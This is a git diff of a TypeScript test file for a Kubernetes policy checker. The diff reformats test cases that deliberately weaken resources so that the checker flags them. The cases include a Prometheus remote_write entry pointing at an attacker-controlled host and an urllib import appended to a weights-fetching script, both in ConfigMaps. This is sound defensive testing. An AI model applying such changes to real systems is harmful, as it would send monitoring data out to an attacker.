@@ -1,3 +1,5 @@
+/* eslint-disable @typescript-eslint/no-explicit-any, @typescript-eslint/no-unsafe-member-access, @typescript-eslint/no-unsafe-call, @typescript-eslint/no-unsafe-return, @typescript-eslint/no-unsafe-assignment, @typescript-eslint/no-unsafe-argument --
+   whoever weakens an object reaches into it at any depth, and each weakening is proven by the misfit that it causes */
 import { beforeAll, describe, expect, test } from "vitest";
 import { formatPath } from "../../policies/kit/path.ts";
 import { ShapeJudge } from "../../policies/shapes/shapes.ts";
@@ -7,7 +9,6 @@ import { recordsOf } from "../holes/stack-records.ts";
 import { stackResourceOf, worldOf } from "./misfits-in.ts";
 
 /** Inputs of an object as plain data, of which a test knows the form. */
-// eslint-disable-next-line @typescript-eslint/no-explicit-any -- whoever weakens an object reaches into it at any depth
 type Open = any;
 
 let records: readonly ResourceRecord[] = [];
@@ -380,7 +381,9 @@ const weakened: readonly (readonly [string, string, RegExp, (inputs: Open) => vo
         "writes metrics to another server",
         "ConfigMap",
         /^observability-prometheus/,
-        (it) => (it.data["prometheus.yml"] += `remote_write:\n  - url: https://${attacker}/write\n`),
+        (it) =>
+            (it.data["prometheus.yml"] =
+                `${it.data["prometheus.yml"] as string}remote_write:\n  - url: https://${attacker}/write\n`),
         'data["prometheus.yml"].remote_write',
     ],
     [
@@ -405,7 +408,7 @@ const weakened: readonly (readonly [string, string, RegExp, (inputs: Open) => vo
         "runs another script",
         "ConfigMap",
         /^fleet/,
-        (it) => (it.data["fetch_weights.py"] += "\nimport urllib.request\n"),
+        (it) => (it.data["fetch_weights.py"] = `${it.data["fetch_weights.py"] as string}\nimport urllib.request\n`),
         'data["fetch_weights.py"]',
     ],
     [
